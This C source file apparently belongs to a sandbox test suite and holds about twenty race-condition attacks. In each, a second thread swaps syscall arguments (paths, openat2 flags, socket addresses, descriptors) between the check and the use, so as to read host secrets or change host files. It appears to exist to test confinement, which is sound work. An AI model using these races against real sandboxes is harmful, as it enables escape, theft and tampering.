// The kernel, or the supervisor, reads a guest's argument twice: another thread changes it in between, from what is allowed
// to what is the host's. Each race runs for a quarter of a second; one win is enough.
#define CLASS "reread"
#include "attack.h"
#include <sys/mount.h>
#include <sys/xattr.h>

#define SPAN 0.2
static char text[4096], good[4096], bad[4096];
static void names(const char *allowed, const char *host) { strcpy(good, in(allowed)), strcpy(bad, out(host)); }

static void raceOpen(void) {
    int fd = open(text, O_RDONLY);
    if (fd >= 0) {
        leakFile(fd);
        close(fd);
    }
}
ATTACK(race_open, leak, 0, "open") {
    names("/lower/other", "secret");
    swapping(text, good, bad, SPAN, raceOpen);
}
static void raceWrite(void) {
    int fd = open(text, O_WRONLY);
    if (fd >= 0) {
        ssize_t w = write(fd, "x", 1);
        (void)w;
        close(fd);
    }
}
ATTACK(race_open_write, change, 0, "open for writing, write") {
    names("/lower/other", "victim");
    swapping(text, good, bad, SPAN, raceWrite);
}
static void raceCreat(void) { close(creat(text, 0666)); }
ATTACK(race_creat, change, 0, "creat of a name outside") {
    names("/tmp/new", "new");
    swapping(text, good, bad, SPAN, raceCreat);
}
static struct { uint64_t flags, mode, resolve; } how;
static void raceHow(void) {
    how.flags = O_RDONLY;
    int fd = (int)syscall(437, AT_FDCWD, text, &how, sizeof how);
    if (fd >= 0) {
        leakFile(fd);
        close(fd);
    }
}
ATTACK(race_openat2, leak, 0, "openat2's path") {
    names("/lower/other", "secret");
    swapping(text, good, bad, SPAN, raceHow);
}
static void raceResolve(void) {
    int fd = (int)syscall(437, AT_FDCWD, in("/ro/victim"), &how, sizeof how);
    if (fd >= 0) {
        deface(fd);
        close(fd);
    }
}
ATTACK(race_openat2_how, change, 0, "openat2's flags: O_RDONLY when checked, O_WRONLY|O_TRUNC when used, on a :ro bind") {
    static const char read[] = {1, 0}, write[] = {1, 2, 0};
    how.flags = 0, how.mode = 0, how.resolve = 0;
    // Bit 0 stands for O_WRONLY; the second byte for O_TRUNC.
    (void)read;
    for (double end = now() + 0.01; now() < end;) {
        how.flags = O_WRONLY | O_TRUNC;
        raceResolve();
    }
    flipping((char *)&how.flags, 1, 0, write[1], SPAN, raceResolve);
}
static void raceRename(void) {
    rename(in("/tmp/from"), text);
    close(open(in("/tmp/from"), O_WRONLY | O_CREAT, 0666));
}
ATTACK(race_rename, change, 0, "rename's target") {
    close(open(in("/tmp/from"), O_WRONLY | O_CREAT, 0666));
    names("/tmp/to", "renamed");
    swapping(text, good, bad, SPAN, raceRename);
}
static void raceUnlink(void) { unlink(text); }
ATTACK(race_unlink, change, 0, "unlink") {
    names("/tmp/none", "victim");
    swapping(text, good, bad, SPAN, raceUnlink);
}
static void raceMkdir(void) { mkdir(text, 0777); }
ATTACK(race_mkdir, change, 0, "mkdir") {
    names("/tmp/d", "made");
    swapping(text, good, bad, SPAN, raceMkdir);
}
static void raceChmod(void) {
    chmod(text, 0600);
    truncate(text, 3);
}
ATTACK(race_chmod, change, 0, "chmod and truncate") {
    names("/lower/other", "victim");
    swapping(text, good, bad, SPAN, raceChmod);
}
static void raceLink(void) {
    link(in("/lower/other"), text);
    symlink("x", text);
}
ATTACK(race_link, change, 0, "link and symlink") {
    names("/tmp/l", "linked");
    swapping(text, good, bad, SPAN, raceLink);
}
static void raceXattr(void) { setxattr(text, "user.x", "1", 1, 0); }
ATTACK(race_xattr, change, 0, "setxattr") {
    names("/lower/other", "victim");
    swapping(text, good, bad, SPAN, raceXattr);
}
static void raceReadlink(void) {
    char buffer[256];
    ssize_t got = readlink(text, buffer, sizeof buffer);
    if (got > 0) leak(buffer, (size_t)got);
    int fd = open(text, O_RDONLY);
    if (fd >= 0) leakFile(fd), close(fd);
}
ATTACK(race_proc_link, leak, 0, "readlink and open of /proc/self/cwd against a path of the host's") {
    names("/lower/other", "secret");
    strcpy(good, "/proc/self/cwd");
    swapping(text, good, bad, SPAN, raceReadlink);
}
static void raceExec(void) {
    pid_t child = fork();
    if (child == 0) {
        alarm(2);
        setenv("ESCAPE_READER", out("secret"), 1);
        char *const arguments[] = {"x", NULL};
        execv(text, arguments);
        _exit(1);
    }
    int status;
    waitpid(child, &status, 0);
}
ATTACK(race_exec, leak, 0, "execve's path between a script of the lower and a program of the host's; natively what it runs reads the secret") {
    strcpy(good, in("/lower/none"));
    strcpy(bad, inside ? "/bin/cat" : in("/bin/attacker"));
    swapping(text, good, bad, SPAN, raceExec);
}
static struct sockaddr_un address;
static socklen_t length;
static int sock;
static void raceConnect(void) {
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (fd >= 0 && connect(fd, (struct sockaddr *)&address, length) == 0) {
        usleep(2000);
        leakFile(fd);
    }
    close(fd);
}
ATTACK(race_connect, leak, 0, "connect's address, between a path inside and an abstract name of the host's") {
    char other[64];
    snprintf(other, sizeof other, "%s-s", knows("NAME"));
    close(unixSocket(other, true, SOCK_STREAM, &address, &length));
    // The first byte of the name decides: NUL is abstract, anything else a path.
    flipping(address.sun_path, 0, 'a', 0, SPAN, raceConnect);
}
static void raceConnectPath(void) { raceConnect(); }
ATTACK(race_connect_path, leak, 0, "connect's path, changed to a socket of the host's outside the root") {
    const char *arena = knows("ARENA");
    if (chdir(in("/tmp")) != 0) return;
    (void)arena;
    close(unixSocket("../../outside/socket", false, SOCK_STREAM, &address, &length));
    flipping(address.sun_path, 0, 'x', '.', SPAN, raceConnectPath);
}
static void raceBind(void) {
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    bind(fd, (struct sockaddr *)&address, length);
    close(fd);
    unlink(in("/tmp/xx"));
}
ATTACK(race_bind, change, 0, "bind's path") {
    if (chdir(in("/tmp")) != 0) return;
    close(unixSocket("../../outside/bound", false, SOCK_STREAM, &address, &length));
    flipping(address.sun_path, 0, 'x', '.', SPAN, raceBind);
}
static struct msghdr message;
static struct iovec vector = {"hello", 5};
static void raceSendmsg(void) { sendmsg(sock, &message, MSG_DONTWAIT); }
ATTACK(race_sendmsg, change, 0, "sendmsg's address: a host's abstract datagram socket against none") {
    char other[64];
    snprintf(other, sizeof other, "%s-d", knows("NAME"));
    sock = unixSocket(other, true, SOCK_DGRAM, &address, &length);
    message = (struct msghdr){.msg_name = &address, .msg_namelen = length, .msg_iov = &vector, .msg_iovlen = 1};
    flipping(address.sun_path, 0, 'a', 0, SPAN, raceSendmsg);
}
static struct mmsghdr several[4];
static void raceSendmmsg(void) {
    syscall(SYS_sendmmsg, sock, several, 4, MSG_DONTWAIT);
    sendto(sock, "x", 1, MSG_DONTWAIT, (struct sockaddr *)&address, length);
}
ATTACK(race_sendmmsg, change, 0, "sendmmsg's and sendto's addresses") {
    char other[64];
    snprintf(other, sizeof other, "%s-d", knows("NAME"));
    sock = unixSocket(other, true, SOCK_DGRAM, &address, &length);
    for (int i = 0; i < 4; i++) several[i].msg_hdr = (struct msghdr){.msg_name = &address, .msg_namelen = length, .msg_iov = &vector, .msg_iovlen = 1};
    flipping(address.sun_path, 0, 'a', 0, SPAN, raceSendmmsg);
}
static int raced, kinds[2];
static void *swapDescriptors(void *unused) {
    for (double end = now() + SPAN; now() < end;)
        for (int i = 0; i < 2; i++) dup2(kinds[i], raced);
    return unused;
}
ATTACK(race_dup2, change, 0, "a descriptor exchanged under connect and sendto: a pair's end against a host-bound socket") {
    char other[64];
    int pair[2];
    snprintf(other, sizeof other, "%s-d", knows("NAME"));
    kinds[0] = unixSocket(other, true, SOCK_DGRAM, &address, &length);
    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) != 0) return;
    kinds[1] = pair[0], raced = dup(pair[0]);
    pthread_t thread;
    pthread_create(&thread, NULL, swapDescriptors, NULL);
    for (double end = now() + SPAN; now() < end;) {
        connect(raced, (struct sockaddr *)&address, length);
        send(raced, "x", 1, MSG_DONTWAIT);
        sendto(raced, "y", 1, MSG_DONTWAIT, (struct sockaddr *)&address, length);
    }
    pthread_join(thread, NULL);
}
static void raceMount(void) {
    mount(text, in("/tmp"), NULL, MS_BIND, NULL);
    leakPath(in("/tmp/secret"));
}
ATTACK(race_mount, leak, NATIVE_ROOT, "mount's source") {
    names("/lower", ".");
    swapping(text, good, bad, 0.05, raceMount);
}
static void raceVector(void) {
    int fd = open(in("/ro/victim"), O_RDONLY);
    ssize_t w = pwritev(fd, &vector, 1, 0);
    w += preadv2(fd, &vector, 1, 0, 0);
    (void)w;
    close(fd);
    w = pwritev(open(in("/ro/victim"), O_WRONLY), &vector, 1, 0);
}
ATTACK(race_vector, change, 0, "an iovec's base under pwritev") { flipping((char *)&vector.iov_len, 0, 5, 1, 0.1, raceVector); }
static void raceStat(void) {
    struct stat s;
    if (stat(text, &s) == 0 && s.st_size == 20) {
        int fd = open(bad, O_RDONLY);
        leakText("size of the host's file seen");
        if (fd >= 0) leakFile(fd);
        close(fd);
    }
}
ATTACK(race_stat, leak, 0, "stat") {
    names("/lower/other", "secret");
    swapping(text, good, bad, SPAN, raceStat);
}
